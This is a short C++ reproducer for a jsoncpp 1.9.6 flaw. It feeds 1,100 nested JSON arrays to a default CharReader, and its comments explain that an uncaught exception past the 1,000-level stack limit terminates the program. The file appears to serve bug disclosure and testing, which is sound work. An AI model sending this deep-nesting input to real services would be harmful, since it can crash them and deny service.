// SPDX-License-Identifier: MIT
// Parses 1,100 nested arrays with a default CharReaderBuilder, as an attacker would send them.
// CharReader::parse is documented to return false on an error, but jsoncpp 1.9.6's
// OurReader::readValue throws Json::RuntimeError("Exceeded stackLimit in readValue()") once the
// nesting passes the default stackLimit of 1000; nothing catches it and the program terminates.
#include <json/json.h>

#include <cstdio>
#include <memory>
#include <string>

int main() {
  constexpr int kDepth = 1100;
  const std::string json = std::string(kDepth, '[') + std::string(kDepth, ']');
  const Json::CharReaderBuilder builder;
  const std::unique_ptr<Json::CharReader> reader(builder.newCharReader());
  Json::Value root;
  std::string errors;
  const bool ok = reader->parse(json.data(), json.data() + json.size(), &root, &errors);
  std::printf("parsed: %s %s\n", ok ? "ok" : "error", errors.c_str());
  return 0;
}
